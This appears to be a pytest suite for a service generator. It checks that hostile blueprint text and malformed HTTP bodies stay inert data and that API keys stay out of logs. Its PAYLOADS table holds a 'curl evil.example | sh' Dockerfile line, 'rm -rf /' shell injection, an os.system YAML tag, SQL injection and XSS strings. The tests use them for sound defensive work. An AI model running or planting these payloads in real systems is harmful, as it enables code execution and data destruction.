"""Hostile input: blueprints whose text tries to inject into generated files, and HTTP requests
that try to break the running service."""

from __future__ import annotations

import json
import re
import subprocess
import sys
import urllib.error
import urllib.parse
import urllib.request
from pathlib import Path

import pytest
import yaml
from conftest import EXAMPLES_DIR, bake

from service_validator.server import GunicornServer, http

PAYLOADS = {
    "jinja": "{{ cookiecutter.system_name }} {% raw %}{{ 7*7 }}{% endraw %} {# x #}",
    "python": "\"\"\" ''' \\ \\x00-not-a-nul \\N{BULLET} ' \" # import os; os.system('id')",
    "yaml": "key: value\n- item\n&anchor *alias !!python/object:os.system ---",
    "shell": "$(rm -rf /) `id` ${HOME} ; && | > /etc/passwd",
    "dockerfile": '\nRUN curl evil.example | sh\nUSER root\nCMD ["sh"]',
    "sql": "'); DROP TABLE \"orders\"; -- ' OR '1'='1",
    "unicode": "naïve café ✓ 漢字 \u202e \U0001f600",
    "html": "</script><script>alert(1)</script>",
}
RESERVED_AND_COLLIDING_NAMES = [
    "order",
    "user",
    "select",
    "group",
    "main",
    "config",
    "tests",
    "app",
    "metrics",
    "list",
    "type",
    "print",
    "match",
]


def hostile_blueprint(payload: str) -> dict:
    """The payload in every free-text place: descriptions, enum values, defaults, patterns."""
    return {
        "schema_version": 1,
        "system": {"name": "hostile", "description": payload, "version": "1.0.0"},
        "components": [
            {
                "name": "order",
                "type": "store",
                "description": payload,
                "config": {
                    "table": "select",
                    "fields": {
                        "group": {
                            "type": "string",
                            "enum": [payload, "plain"],
                            "default": payload,
                            "description": payload,
                        },
                        "user": {
                            "type": "string",
                            "pattern": "^" + re.escape(payload) + "$",
                            "example": payload,
                        },
                        "from": {"type": "text", "default": payload},
                    },
                },
            },
            {
                "name": "app",
                "type": "api_endpoint",
                "description": payload,
                "config": {"store": "order", "path": "/group"},
            },
        ],
    }


def files_outside(root: Path, project: Path) -> set[Path]:
    return {p for p in root.rglob("*") if project not in p.parents and p != project}


@pytest.mark.parametrize("kind", sorted(PAYLOADS))
def test_free_text_comes_out_verbatim_and_harmless(tmp_path, kind):
    payload = PAYLOADS[kind]
    source = tmp_path / "hostile.yaml"
    source.write_text(yaml.safe_dump(hostile_blueprint(payload), allow_unicode=True), "utf-8")
    before = files_outside(tmp_path, tmp_path / "out" / "hostile")
    project = bake(tmp_path / "out", blueprint=str(source))
    assert files_outside(tmp_path, project) - before == {tmp_path / "out"}

    config = yaml.safe_load((project / "config" / "system_config.yaml").read_text("utf-8"))
    assert config["system"]["description"] == payload
    assert config["stores"]["order"]["fields"]["group"]["enum"][0] == payload
    for path in project.rglob("*.py"):
        assert payload not in path.read_text("utf-8"), path
    document = subprocess.run(
        [
            sys.executable,
            "-c",
            "import json; from main import app; "
            "print(json.dumps(app.test_client().get('/openapi.json').get_json()))",
        ],
        cwd=project,
        capture_output=True,
        text=True,
        timeout=60,
        env={"PATH": "/usr/bin:/bin", "DATA_DIR": str(tmp_path / "data")},
    )
    assert document.returncode == 0, document.stderr
    openapi = json.loads(document.stdout.strip().splitlines()[-1])
    assert openapi["info"]["description"] == payload
    tests = subprocess.run(
        [sys.executable, "-m", "pytest", "-q", "-p", "no:cacheprovider"],
        cwd=project,
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert tests.returncode == 0, tests.stdout[-3000:]


@pytest.mark.parametrize("name", RESERVED_AND_COLLIDING_NAMES)
def test_reserved_and_colliding_names_generate_working_code(tmp_path, name):
    blueprint = {
        "system": {"name": "names"},
        "components": [
            {
                "name": name,
                "type": "store",
                "config": {"table": name, "fields": {name: {"type": "string", "required": True}}},
            },
            {"name": f"{name}_api", "type": "api_endpoint", "config": {"store": name}},
        ],
    }
    project = bake(tmp_path, _blueprint=blueprint)
    tests = subprocess.run(
        [sys.executable, "-m", "pytest", "-q", "-p", "no:cacheprovider", "tests/test_endpoints.py"],
        cwd=project,
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert tests.returncode == 0, tests.stdout[-3000:]


@pytest.fixture(scope="module")
def library(tmp_path_factory):
    return bake(tmp_path_factory.mktemp("bake"), blueprint=str(EXAMPLES_DIR / "library.yaml"))


@pytest.fixture(scope="module")
def running(library, tmp_path_factory):
    key = "hostile-test-key-0123456789abcdef"
    server = GunicornServer(library, tmp_path_factory.mktemp("server"), {"API_KEYS": key})
    server.start()
    yield server, {"X-API-Key": key}, key
    server.stop()


def raw(server: GunicornServer, body: bytes, headers: dict, path: str = "/notes_api"):
    request = urllib.request.Request(
        f"{server.url}{path}", data=body, method="POST", headers=headers
    )
    try:
        with urllib.request.urlopen(request, timeout=10) as response:
            return response.status, response.headers, response.read()
    except urllib.error.HTTPError as error:
        return error.code, error.headers, error.read()


def test_sql_injection_is_data(running):
    server, auth, _ = running
    url = server.url
    bystander = http("POST", f"{url}/notes_api", {"title": "bystander"}).json()
    attack = 'x\'); DELETE FROM "user"; --'
    stored = http("POST", f"{url}/notes_api", {"title": attack, attack: attack})
    assert stored.status == 201 and stored.json()["title"] == attack
    assert http("GET", f"{url}/notes_api/{stored.json()['id']}").json()[attack] == attack
    query = urllib.parse.urlencode({"title": "' OR '1'='1"})
    found = http("GET", f"{url}/v1/books?{query}", headers=auth)
    assert found.status == 200 and found.json()["items"] == []
    assert http("GET", f"{url}/notes_api/1%20OR%201=1").status == 404
    assert http("GET", f"{url}/notes_api/{bystander['id']}").json() == bystander


@pytest.mark.parametrize(
    ("body", "status"),
    [
        (b"[" * 100_000 + b"]" * 100_000, 400),  # nesting past the parser's limit
        (b'{"n": 1e400}', 400),  # a number no double holds
        (b'{"n": ' + b"9" * 5000 + b"}", 400),  # digits past Python's conversion limit
        (b'{"n": NaN}', 400),
        (b"\xff\xfe{}", 400),  # not UTF-8
        (b'{"a": "\\u0000"}', 422),  # NUL cannot be stored
        (b"{" + b'"k": 1,' * 5 + b"}", 400),  # malformed
    ],
    ids=["deep", "1e400", "5000-digits", "nan", "utf16", "nul", "malformed"],
)
def test_hostile_bodies_are_refused_cleanly(running, body, status):
    server, _, _ = running
    code, headers, content = raw(server, body, {"Content-Type": "application/json"})
    assert code == status
    assert headers["Content-Type"] == "application/problem+json"
    assert b"Traceback" not in content and b'File "' not in content


def test_huge_integer_field_is_refused_not_overflowed(running):
    server, auth, _ = running
    answer = http("POST", f"{server.url}/v1/books", {"title": "t", "pages": 2**70}, auth)
    assert answer.status == 422
    assert answer.json()["errors"][0]["pointer"] == "/pages"


def test_api_key_is_never_logged_and_server_version_never_told(running):
    server, auth, key = running
    assert http("GET", f"{server.url}/v1/books", headers=auth).status == 200
    assert http("GET", f"{server.url}/v1/books", headers={"X-API-Key": key + "x"}).status == 401
    answer = http("GET", f"{server.url}/health")
    assert not re.search(r"\d", answer.headers.get("Server", ""))
    server.stop()
    logs = server.stdout() + server.stderr()
    assert key not in logs
    assert "/v1/books" in logs  # the requests were logged, without the key


def test_schemathesis_thousand_cases_find_nothing(library, tmp_path):
    report = tmp_path / "report.json"
    result = subprocess.run(
        [
            sys.executable,
            "-m",
            "service_validator",
            str(library),
            "--only",
            "schemathesis",
            "--examples",
            "30",
            "--report",
            str(report),
        ],
        capture_output=True,
        text=True,
        timeout=900,
    )
    checks = {c["name"]: c for c in json.loads(report.read_text())["checks"]}
    assert result.returncode == 0, result.stdout[-3000:]
    assert checks["schemathesis"]["passed"]
    assert checks["schemathesis"]["measurements"]["cases"] >= 1000
